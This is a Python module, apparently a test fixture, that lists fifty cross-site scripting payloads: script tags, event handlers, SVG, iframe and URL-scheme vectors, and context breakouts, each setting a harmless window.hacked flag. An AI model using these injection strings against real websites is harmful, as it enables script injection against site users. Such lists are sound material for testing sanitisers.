"""Fifty ways to smuggle a script into text that others see; each would set `window.hacked`."""

from __future__ import annotations

_CALL = "window.hacked=1"
_TAGS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script src=data:text/javascript,{_CALL}></script>",
    f"<script type=module>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<img src=x onerror={_CALL}>",
    f"<img/src=x/onerror={_CALL}>",
    f"<img src=x onerror='{_CALL}'//",
    f"<IMG SRC=x ONERROR={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_CALL}><text>x</text></a></svg>",
    f"<math><mi//xlink:href='data:x,<script>{_CALL}</script>'>",
    f"<body onload={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<textarea autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<video src=x onerror={_CALL}></video>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<iframe src=javascript:parent.{_CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<form action=javascript:{_CALL}><button autofocus>x</button></form>",
    f"<button formaction=javascript:{_CALL}>x</button>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<base href=javascript:{_CALL}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<link rel=stylesheet href=data:,*{{x:expression({_CALL})}}>",
    f"<style>@import 'javascript:{_CALL}';</style>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<![CDATA[<img src=x onerror={_CALL}>]]>",
)
_BREAKOUTS = (
    f"</style><script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"</ul></instagram-feed><script>{_CALL}</script>",
    f"</textarea></title></noscript><script>{_CALL}</script>",
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f'" onmouseover={_CALL} autofocus onfocus={_CALL} x="',
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"${{{_CALL}}}",
    f"\u2028</script><script>{_CALL}</script>",
)
_ADDRESSES = (f"javascript:{_CALL}", f"data:text/html,<script>{_CALL}</script>")

PAYLOADS = (*_TAGS, *_BREAKOUTS, *_ADDRESSES)
